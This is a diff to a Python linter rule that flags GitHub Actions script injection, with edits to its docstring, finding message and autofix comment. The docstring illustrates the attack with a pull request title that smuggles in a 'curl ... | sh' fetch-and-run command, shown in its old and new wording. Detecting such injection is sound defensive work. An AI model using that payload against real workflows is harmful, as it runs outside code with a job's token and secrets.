@@ -66,16 +66,17 @@ from aurora_devops.kinds.github.untrusted import flowing, is_code, is_written_ou
                   - run: echo "${{ contains(github.event.pull_request.title, '[skip]') }}"
                   - run: git diff "${{ github.event.pull_request.base.sha }}"
             """,
-            because="true, false and a hash carry no code",
+            because="a boolean and a hash cannot contain code",
         ),
     ],
 )
 def script_injection(expression: Expression) -> Iterator[Finding]:
-    """Text that a stranger wrote is pasted into a script before it runs.
+    """Text that anyone can set is expanded into a script before it runs.
 
-    A title such as `"; curl evil.sh | sh; "` becomes part of the script, with the workflow's token and secrets.
-    Hand the text over in an environment variable, and let the script quote it.
-    The fix does so, but the variable's name is a guess and the quoting may differ, so it is not applied unasked.
+    A title such as `"; curl https://example.com/x | sh; "` becomes part of the script and runs with the token and the
+    secrets of the job.
+    Pass the text in an environment variable and quote that.
+    The fix does so, but chooses the name of the variable and may change quoting, so it is not applied by default.
 
     https://docs.github.com/en/actions/concepts/security/script-injections
     """
@@ -85,7 +86,7 @@ def script_injection(expression: Expression) -> Iterator[Finding]:
         for source in sources(expression, way):
             if is_written_outside(source):
                 name = ".".join(source)
-                message = f"{name} can be any text, and here it becomes part of a script"
+                message = f"'{name}' is set by anyone and expanded into the script; pass it in an environment variable"
                 fix = _fix(expression) if tree == expression.tree else None
                 yield Finding(at=expression.part(tree.start, tree.end), message=message, fix=fix)
                 break
@@ -95,7 +96,7 @@ _NAME = re.compile(r"[^A-Z0-9]+")
 
 
 def _fix(expression: Expression) -> Fix | None:
-    """The expression moved to the step's `env`, where the script has it in double quotes."""
+    """The expression moved to the step's `env`, where it is in double quotes in the script."""
     step = expression.step
     if step is None or step.step.run is None or not isinstance(step.step.env, dict):
         return None
